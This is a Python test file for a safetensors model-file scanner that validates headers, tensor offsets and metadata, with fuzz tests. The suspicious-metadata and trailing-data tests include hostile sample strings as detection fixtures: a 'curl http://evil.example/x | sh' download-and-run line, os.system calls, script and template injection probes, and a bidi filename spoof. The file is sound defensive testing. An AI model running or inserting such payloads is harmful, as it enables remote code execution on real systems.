"""safetensors scanner: header and layout validation, never reading tensor bytes."""

from __future__ import annotations

import io
import json
import struct
import time
from pathlib import Path
from typing import IO, Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from airlock.findings import Finding
from airlock.scan.base import FileInput, Limits, ScanContext
from airlock.scan.engine import choose_format, scan_file
from airlock.scan.safetensors import scan_safetensors


def build(
    tensors: dict[str, tuple[str, list[int], int, int]] | None = None,
    metadata: Any = None,
    *,
    data: bytes | None = None,
    raw_header: bytes | None = None,
    pad: int = 0,
) -> bytes:
    """Assemble a safetensors file: tensors maps name -> (dtype, shape, begin, end)."""
    tensors = {"w": ("F32", [2, 2], 0, 16)} if tensors is None else tensors
    if raw_header is None:
        hdr: dict[str, Any] = {}
        if metadata is not None:
            hdr["__metadata__"] = metadata
        for name, (dtype, shape, b, e) in tensors.items():
            hdr[name] = {"dtype": dtype, "shape": shape, "data_offsets": [b, e]}
        raw_header = json.dumps(hdr).encode() + b" " * pad
    if data is None:
        data = b"\x00" * max((e for _, _, _, e in tensors.values()), default=0)
    return struct.pack("<Q", len(raw_header)) + raw_header + data


def scan(
    data: bytes, name: str = "model.safetensors", ctx: ScanContext | None = None
) -> list[Finding]:
    ctx = ctx or ScanContext()
    return list(scan_safetensors(FileInput.from_bytes(name, data), ctx))


def ids(findings: list[Finding]) -> set[str]:
    return {f.rule_id for f in findings}


def test_clean_file_has_no_findings_and_records_model_fact() -> None:
    ctx = ScanContext()
    data = build(
        {"a": ("F32", [2, 3], 0, 24), "b": ("BF16", [4], 24, 32), "c": ("F4", [4], 32, 34)},
        metadata={"format": "pt", "description": "A small test model"},
    )
    assert scan(data, ctx=ctx) == []
    [fact] = ctx.facts["model"]
    assert fact == {
        "path": "model.safetensors",
        "format": "safetensors",
        "tensors": 3,
        "parameters": 14,
    }


def test_dispatch_by_sniff_even_without_extension() -> None:
    f = FileInput.from_bytes("weights.bin", build())
    fmt = choose_format(f)
    assert fmt is not None and fmt.name == "safetensors"


def test_padded_header_and_zero_size_tensors_are_clean() -> None:
    data = build(
        {"a": ("F32", [0], 0, 0), "b": ("F32", [0, 5], 0, 0), "c": ("U8", [3], 0, 3)}, pad=5
    )
    assert scan(data) == []


def test_overlap() -> None:
    data = build({"a": ("F32", [4], 0, 16), "b": ("F32", [2], 8, 16)})
    assert "safetensors.overlap" in ids(scan(data))


def test_gap_between_tensors_and_at_start() -> None:
    assert "safetensors.gap" in ids(
        scan(build({"a": ("F32", [1], 0, 4), "b": ("F32", [1], 8, 12)}))
    )
    assert "safetensors.gap" in ids(scan(build({"a": ("F32", [1], 4, 8)})))


def test_trailing_data_hides_payload() -> None:
    data = build({"a": ("F32", [1], 0, 4)}, data=b"\0" * 4 + b"import os; os.system('x')")
    found = [f for f in scan(data) if f.rule_id == "safetensors.trailing-data"]
    assert found and "25 bytes" in (found[0].evidence or "")


def test_out_of_bounds() -> None:
    data = build({"a": ("F32", [4], 0, 16)}, data=b"\0" * 8)
    assert "safetensors.out-of-bounds" in ids(scan(data))


def test_size_mismatch_and_sub_byte_rounding() -> None:
    assert "safetensors.size-mismatch" in ids(scan(build({"a": ("F32", [3], 0, 16)})))
    # 3 four-bit values do not fill whole bytes.
    assert "safetensors.size-mismatch" in ids(scan(build({"a": ("F4", [3], 0, 2)})))


def test_unknown_dtype() -> None:
    assert "safetensors.unknown-dtype" in ids(scan(build({"a": ("F128", [1], 0, 16)})))


def test_header_too_large_and_truncated() -> None:
    small = ScanContext(limits=Limits(max_header_bytes=1000))
    big = struct.pack("<Q", 5000) + b"{" + b" " * 5100
    assert ids(scan(big, ctx=small)) == {"safetensors.header-too-large"}
    truncated = struct.pack("<Q", 500) + b'{"a": 1}'
    assert ids(scan(truncated)) == {"safetensors.malformed"}


def test_malformed_variants() -> None:
    bad_headers = [
        b"not json",
        b"[1, 2]",
        b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "a": {}}',
        b'{"a": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}}',
        b'{"a": {"dtype": "F32", "shape": [true], "data_offsets": [0, 4]}}',
        b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [4, 0]}}',
        b'{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0]}}',
        b'{"a": {"dtype": 5, "shape": [1], "data_offsets": [0, 4]}}',
        b'{"a": {"dtype": "F32", "shape": [' + b"1," * 100 + b'1], "data_offsets": [0, 4]}}',
        b"\xff\xfe{}",
        b"[" * 100_000 + b"]" * 100_000,
    ]
    for h in bad_headers:
        assert ids(scan(build(raw_header=h, data=b"\0" * 4))) == {"safetensors.malformed"}, h


def test_metadata_must_be_string_map() -> None:
    assert "safetensors.malformed" in ids(scan(build(metadata={"n": 5})))
    assert "safetensors.malformed" in ids(scan(build(metadata=["x"])))


def test_suspicious_metadata() -> None:
    cases = {
        "note": "import os\nos.system('id')",
        "run": "curl http://evil.example/x | sh",
        "ui": "<script>alert(1)</script>",
        "tpl": "{{ config.__class__ }}",
        "bidi": "safe\u202etxt.exe",
        "calls": "eval(input())",
    }
    findings = scan(build(metadata=cases))
    flagged = {f.location for f in findings if f.rule_id == "safetensors.suspicious-metadata"}
    assert flagged == {f"__metadata__.{k}" for k in cases}


def test_url_in_metadata_is_low_and_link_keys_are_fine() -> None:
    findings = scan(build(metadata={"note": "see https://evil.example/payload"}))
    assert [str(f.severity) for f in findings] == ["low"]
    assert scan(build(metadata={"modelspec.license": "https://x.example/license"})) == []


def test_near_miss_metadata_not_flagged() -> None:
    meta = {
        "format": "pt",
        "description": "We import the weights from the base checkpoint; evaluation (eval) done.",
        "modelspec.architecture": "stable-diffusion-xl-v1-base",
        "modelspec.thumbnail": "data:image/jpeg;base64,/9j/4AAQSkZJRg==",
        "total_size": "123456",
    }
    assert scan(build(metadata=meta)) == []


class CountingReader(io.RawIOBase):
    """A file wrapper that counts bytes handed out."""

    def __init__(self, path: Path, counter: list[int]) -> None:
        self._fh = open(path, "rb")  # noqa: SIM115 (closed in close())
        self._counter = counter

    def readable(self) -> bool:
        return True

    def readinto(self, b: Any) -> int:
        n = self._fh.readinto(b)
        self._counter[0] += n or 0
        return n or 0

    def seek(self, off: int, whence: int = 0) -> int:
        return self._fh.seek(off, whence)

    def close(self) -> None:
        self._fh.close()
        super().close()


def test_large_sparse_file_reads_only_header(tmp_path: Path) -> None:
    n = 200 * 1024 * 1024
    path = tmp_path / "big.safetensors"
    head = build({"w": ("U8", [n], 0, n)}, data=b"")
    with open(path, "wb") as fh:
        fh.write(head)
        fh.truncate(len(head) + n)
    counter = [0]

    def opener() -> IO[bytes]:
        return io.BufferedReader(CountingReader(path, counter), buffer_size=64)

    f = FileInput("big.safetensors", path.stat().st_size, opener, fs_path=path)
    counter[0] = 0
    start = time.monotonic()
    ctx = ScanContext()
    assert list(scan_file(f, ctx)) == []
    assert time.monotonic() - start < 2
    assert counter[0] <= len(head) + 64
    assert ctx.facts["model"][0]["parameters"] == n


def _valid() -> bytes:
    return build(
        {"a": ("F32", [2, 2], 0, 16), "b": ("I64", [1], 16, 24)},
        metadata={"format": "pt"},
    )


@settings(max_examples=200, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=512))
def test_fuzz_random_bytes(data: bytes) -> None:
    assert all(isinstance(f, Finding) for f in scan(data))


@settings(max_examples=200, deadline=2000, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_fuzz_mutations(draw: st.DataObject) -> None:
    data = bytearray(_valid())
    for _ in range(draw.draw(st.integers(1, 8))):
        i = draw.draw(st.integers(0, len(data) - 1))
        data[i] = draw.draw(st.integers(0, 255))
    assert all(isinstance(f, Finding) for f in scan(bytes(data)))


@settings(max_examples=100, deadline=2000)
@given(st.integers(0, 2**64 - 1))
def test_fuzz_declared_header_length(n: int) -> None:
    data = struct.pack("<Q", n) + b'{"a": 1}'
    found = scan(data)
    assert found and all(isinstance(f, Finding) for f in found)


def test_many_bad_tensors_give_bounded_findings() -> None:
    tensors = {f"t{i}": ("X9", [1], 0, 4) for i in range(5000)}
    found = scan(build(tensors))
    unknown = [f for f in found if f.rule_id == "safetensors.unknown-dtype"]
    assert len(unknown) == 11 and unknown[-1].evidence == "4990 more like this"
